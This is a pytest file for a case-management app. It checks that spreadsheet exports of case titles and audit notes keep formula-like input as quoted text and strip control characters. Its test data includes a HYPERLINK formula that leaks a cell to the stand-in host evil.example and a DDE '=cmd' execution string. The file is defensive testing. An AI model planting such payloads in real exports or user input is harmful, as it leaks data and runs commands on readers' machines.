"""The case and audit exports open as text in a spreadsheet, whatever users typed or rows already hold."""

from __future__ import annotations

import io
from datetime import date

from openpyxl import load_workbook

from core.accounts import audit, audit_log
from core.cases import case_list
from core.cases.case_list import CaseFilter
from models import Case, Role
from tests import factories as f

HYPERLINK = '=HYPERLINK("http://evil.example/?q="&B2,"点此查看")'


def _cells(data: bytes) -> list[list]:
    return [list(row) for row in load_workbook(io.BytesIO(data)).active.iter_rows()]


def _store_title(session, case: Case, title: str) -> None:
    """Write a title as an old row may hold it (registration refuses such titles now)."""
    case.title = title
    session.add(case)
    session.commit()


def test_a_formula_title_exports_as_the_text_the_user_typed(session):
    admin = f.make_user(session, Role.ADMIN)
    _store_title(session, f.register(session, admin), HYPERLINK)
    data, n = case_list.export_xlsx(session, admin, CaseFilter(), date(2026, 9, 28))
    title = _cells(data)[1][5]  # the sixth column is the title
    assert n == 1 and (title.value, title.data_type, title.quotePrefix) == (HYPERLINK, "s", True)


def test_a_stored_title_with_control_characters_still_exports(session):
    admin = f.make_user(session, Role.ADMIN)
    # PostgreSQL never stores NUL in text, SQLite does: an old SQLite office may hold one
    nul = "\x00" if session.get_bind().dialect.name == "sqlite" else ""
    _store_title(session, f.register(session, admin), f"电梯{nul}故障\x07维修")
    data, n = case_list.export_xlsx(session, admin, CaseFilter(), date(2026, 9, 28))
    assert n == 1 and _cells(data)[1][5].value == "电梯故障维修"


def test_the_audit_export_writes_names_and_notes_as_text(session):
    admin = f.make_user(session, Role.ADMIN, name="@管理员")
    audit.record(session, admin, "case.accept", object_id=7, note="-2+3 见附件\x07")
    audit.record(session, admin, "case.close", object_id=8, note="=cmd|' /C calc'!A0")
    session.commit()
    rows = _cells(audit_log.export_events(session, admin))[1:]
    names = [r[audit_log.COLUMNS.index("actor_name")] for r in rows]
    notes = [r[audit_log.COLUMNS.index("note")] for r in rows]
    assert [(c.value, c.data_type, c.quotePrefix) for c in names] == [("@管理员", "s", True)] * 2
    assert [(c.value, c.data_type) for c in notes] == [("-2+3 见附件", "s"), ("=cmd|' /C calc'!A0", "s")]
